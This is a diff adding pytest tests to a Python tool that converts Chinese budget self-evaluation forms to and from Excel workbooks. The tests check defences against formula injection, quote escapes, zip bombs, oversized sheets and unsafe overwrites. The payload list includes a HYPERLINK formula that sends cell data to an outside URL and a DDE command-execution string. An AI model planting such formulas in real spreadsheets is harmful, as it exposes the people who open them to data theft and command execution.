@@ -4,17 +4,29 @@ import os
 import re
 import shutil
 import subprocess
+import time
+import zipfile
 from decimal import Decimal
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
+from evaltools.checks import check_project
 from evaltools.cli import main
 from evaltools.model import ProjectParams
 from evaltools.yamlio import ParamsError, _drop_nulls
 from evaltools.rules import load_rules
 from evaltools.scoring import score
-from evaltools.workbook import export_workbook, import_workbook, lines_needed, template_workbook
+from evaltools.workbook import (
+    MAX_CELLS,
+    MAX_UNCOMPRESSED_MB,
+    export_workbook,
+    import_workbook,
+    lines_needed,
+    read_workbook,
+    template_workbook,
+    write_params,
+)
 from evaltools.workspace import load_project
 
 from conftest import SEED, add_project, overlapping_words
@@ -27,6 +39,129 @@ needs_office = pytest.mark.skipif((shutil.which("soffice") is None or shutil.whi
 @pytest.fixture
 def exported(seed, tmp_path):
     return export_workbook([(seed.params, seed.rules)], tmp_path / "seed.xlsx")
+
+
+# --- strangers' files -----------------------------------------------------------------------------
+
+INJECTIONS = ['=HYPERLINK("http://example.invalid/?d="&B3,"详情")', "=WEBSERVICE(\"http://example.invalid\")",
+              "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "#N/A"]
+COMPUTED = {"D6", "E6", "F6", "H6", "I6"}  # plus the 总分 row's G, H, I
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(seed_data, seed, tmp_path):
+    seed_data["project"]["name"] = INJECTIONS[0]
+    seed_data["goals"]["expected"] = INJECTIONS[1]
+    for indicator, text in zip(seed_data["indicators"], INJECTIONS[2:], strict=False):
+        indicator["actual"] = indicator["deviation"] = text
+    seed_data["project"]["leader"] = INJECTIONS[5]  # lands on the 其他参数 sheet
+    params = ProjectParams.model_validate(_drop_nulls(seed_data))
+    book = load_workbook(export_workbook([(params, seed.rules)], tmp_path / "hostile.xlsx"))
+    form, other = book.worksheets[0], book["其他参数"]
+    total_row = 13 + len(params.indicators)
+    formulas = {c.coordinate for row in form.iter_rows() for c in row if c.data_type == "f"}
+    assert formulas == COMPUTED | {f"G{total_row}", f"H{total_row}", f"I{total_row}"}
+    assert not [c for row in other.iter_rows() for c in row if c.data_type == "f"]
+    texts = [c for sheet in (form, other) for row in sheet.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value in INJECTIONS]
+    assert {c.value for c in texts} == set(INJECTIONS)
+    assert all(c.data_type == "s" for c in texts)
+    # Excel's own mark for "typed with a leading apostrophe": the cell stays text when edited
+    assert all(c.quotePrefix for c in texts if c.value[0] in "=+-@\t")
+    [data] = import_workbook(tmp_path / "hostile.xlsx")
+    assert data["project"]["name"] == INJECTIONS[0] and data["goals"]["expected"] == INJECTIONS[1]
+
+
+def test_a_quote_in_a_rule_label_cannot_open_a_formula(seed, tmp_path):
+    bands = [band.model_copy(update={"label": '优",WEBSERVICE("http://example.invalid"),"'}) if i == 0 else band
+             for i, band in enumerate(seed.rules.grades)]
+    rules = seed.rules.model_copy(update={"grades": bands})
+    sheet = load_workbook(export_workbook([(seed.params, rules)], tmp_path / "label.xlsx")).worksheets[0]
+    grade = next(c.value for row in sheet.iter_rows() for c in row if c.data_type == "f" and "IF(ROUND" in c.value)
+    assert '"优"",WEBSERVICE(""http://example.invalid""),"""' in grade
+
+
+def bomb(path, megabytes: int):
+    """A workbook whose one worksheet inflates to ``megabytes`` (a few kB zipped)."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * (megabytes * 2**20))
+    return path
+
+
+def test_a_zip_bomb_is_refused_unread_and_at_once(tmp_path):
+    path = bomb(tmp_path / "bomb.xlsx", MAX_UNCOMPRESSED_MB + 10)
+    assert path.stat().st_size < 2**20
+    started = time.monotonic()
+    with pytest.raises(ParamsError, match=f"超过上限 {MAX_UNCOMPRESSED_MB} MB"):
+        import_workbook(path)
+    assert time.monotonic() - started < 0.5
+
+
+def test_a_workbook_with_too_many_cells_is_refused_at_once(tmp_path):
+    book = Workbook()
+    book.active.append(["项目支出名称", "x"])
+    book.save(tmp_path / "small.xlsx")
+    cells = b"".join(b'<c r="A%d"><v>1</v></c>' % i for i in range(MAX_CELLS + 1))
+    with zipfile.ZipFile(tmp_path / "small.xlsx") as source, \
+            zipfile.ZipFile(tmp_path / "many.xlsx", "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = data.replace(b"</sheetData>", b'<row r="2">' + cells + b"</row></sheetData>")
+            target.writestr(item, data)
+    started = time.monotonic()
+    with pytest.raises(ParamsError, match="个单元格，超过上限"):
+        import_workbook(tmp_path / "many.xlsx")
+    assert time.monotonic() - started < 0.5
+
+
+def test_sheets_that_are_not_a_form_are_skipped_and_named(exported):
+    book = load_workbook(exported)
+    book.create_sheet("备注").append(["领导批示", "同意"])
+    book.save(exported)
+    imported = read_workbook(exported)
+    assert list(imported.projects) == ["公共资源交易平台运行维护费"] and imported.skipped == ["备注"]
+
+
+class TestImportLosesNothing:
+    def test_an_existing_file_is_not_replaced_without_force(self, exported, tmp_path):
+        target = tmp_path / "dept" / "公共资源交易平台运行维护费.yaml"
+        target.parent.mkdir()
+        target.write_text("# 手改的注释\n", encoding="utf-8")
+        with pytest.raises(ParamsError) as info:
+            write_params(read_workbook(exported).projects, target.parent, exported)
+        assert "--force" in str(info.value) and "将写入" in str(info.value) and "覆盖" in str(info.value)
+        assert target.read_text(encoding="utf-8") == "# 手改的注释\n"
+        assert write_params(read_workbook(exported).projects, target.parent, exported, force=True) == [target]
+        assert "106.62" in target.read_text(encoding="utf-8")
+
+    @pytest.mark.parametrize("name", ["_department", "_rules", ".hidden"])
+    def test_a_reserved_name_is_refused(self, seed_data, seed, workspace, tmp_path, name):
+        seed_data["project"]["name"] = name
+        params = ProjectParams.model_validate(_drop_nulls(seed_data))
+        path = export_workbook([(params, seed.rules)], tmp_path / "reserved.xlsx")
+        folder = workspace / "2024" / "xiangxi-ggzy"
+        before = {p.name: p.read_bytes() for p in folder.iterdir()}
+        with pytest.raises(ParamsError, match="保留的文件名"):
+            write_params(read_workbook(path).projects, folder, path, force=True)
+        assert {p.name: p.read_bytes() for p in folder.iterdir()} == before
+
+    def test_two_sheets_that_would_write_the_same_file_are_refused(self, exported, tmp_path):
+        book = load_workbook(exported)
+        book.copy_worksheet(book.worksheets[0]).title = "副本"
+        book.save(exported)
+        imported = read_workbook(exported)
+        assert len(imported.projects) == 2
+        with pytest.raises(ParamsError, match="项目名称重复"):
+            write_params(imported.projects, tmp_path / "out", exported)
+        assert not (tmp_path / "out").exists()
+
+    def test_a_name_too_long_for_the_file_system_is_shortened(self, seed_data, seed, tmp_path):
+        seed_data["project"]["name"] = "公共资源交易平台运行维护" * 12
+        params = ProjectParams.model_validate(_drop_nulls(seed_data))
+        path = export_workbook([(params, seed.rules)], tmp_path / "long.xlsx")
+        [written] = write_params(read_workbook(path).projects, tmp_path / "out", path)
+        assert written.is_file() and len(written.name.encode()) <= 150
 
 
 def test_the_round_trip_gives_back_the_same_model_and_score(seed, exported):
@@ -140,6 +275,26 @@ def test_the_template_has_lists_and_weights_and_imports(tmp_path):
     assert "TEMPLATE-TEXT" in {f.code for f in run_checks(params, load_rules())}
 
 
+def test_cli_import_names_skipped_sheets_and_asks_before_overwriting(exported, tmp_path, capsys):
+    book = load_workbook(exported)
+    book.create_sheet("备注").append(["x"])
+    book.save(exported)
+    target = tmp_path / "one.yaml"
+    assert main(["import-xlsx", str(exported), "-o", str(target)]) == 0
+    assert "跳过工作表“备注”" in capsys.readouterr().out
+    assert main(["import-xlsx", str(exported), "-o", str(target)]) == 1
+    assert "--force" in capsys.readouterr().err
+    assert main(["import-xlsx", str(exported), "-o", str(target), "--force"]) == 0
+
+
+def test_cli_export_into_a_missing_folder_and_never_over_a_file_unasked(tmp_path, capsys):
+    workbook = tmp_path / "new" / "folder" / "out.xlsx"
+    assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 0 and workbook.is_file()
+    assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 2
+    assert "已存在" in capsys.readouterr().err
+    assert main(["export-xlsx", str(SEED), "-o", str(workbook), "--force"]) == 0
+
+
 def test_cli_round_trip(tmp_path, capsys):
     workbook = tmp_path / "out.xlsx"
     assert main(["export-xlsx", str(SEED), "-o", str(workbook)]) == 0
@@ -161,10 +316,30 @@ def test_a_hand_made_form_imports_into_a_department_folder(tmp_path, workspace, 
     assert '"total": "96.60"' in out
 
 
-def test_a_hand_made_form_alone_is_refused_with_the_missing_fields(tmp_path, capsys):
-    assert main(["import-xlsx", str(hand_made(tmp_path / "hand.xlsx")), "-o", str(tmp_path / "alone.yaml")]) == 1
-    err = capsys.readouterr().err
-    assert "hand.xlsx" in err and "evaluation.method" in err and not (tmp_path / "alone.yaml").exists()
+def test_a_hand_made_form_alone_imports_as_a_form_only_file_and_is_checked(tmp_path, capsys):
+    """A 自评表 without its report needs no 评价方式/评价机构; the rest is still checked."""
+    target = tmp_path / "alone.yaml"
+    assert main(["import-xlsx", str(hand_made(tmp_path / "hand.xlsx")), "-o", str(target)]) == 0
+    findings = check_project(load_project(target))
+    codes = {f.code for f in findings}
+    assert "REPORT-FIELD" not in codes
+    # 48 of 50 万元 spent (96 %) and no word on why
+    assert "EXEC-UNEXPLAINED" in codes
+
+
+def test_what_the_official_layout_has_no_cell_for_survives_the_round_trip(tmp_path, seed_data):
+    """A province's extra budget rows, per-row 执行率 and 原因, 财务负责人 go to 其他参数 and come back."""
+    seed_data["budget"] = {"appropriation": {"initial": "0.00", "annual": "96.62", "executed": "96.62", "rate": "100%"},
+                           "unit_funds": {"initial": "10", "annual": "10", "executed": "10", "reason": "单位自有资金"}}
+    seed_data["evaluation"]["form"]["finance_head"] = "李芳"
+    params = ProjectParams.model_validate(_drop_nulls(seed_data))
+    workbook = export_workbook([(params, load_rules())], tmp_path / "out.xlsx")
+    [data] = import_workbook(workbook)
+    back = ProjectParams.model_validate(_drop_nulls(data))
+    assert back.budget == params.budget and back.evaluation.form.finance_head == "李芳"
+    sheet = load_workbook(workbook).worksheets[0]
+    texts = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert "单位资金" in texts and any("财务负责人：李芳" in t for t in texts)  # on the form itself
 
 
 def test_number_formats_and_rounding_come_from_the_rules(seed, tmp_path):
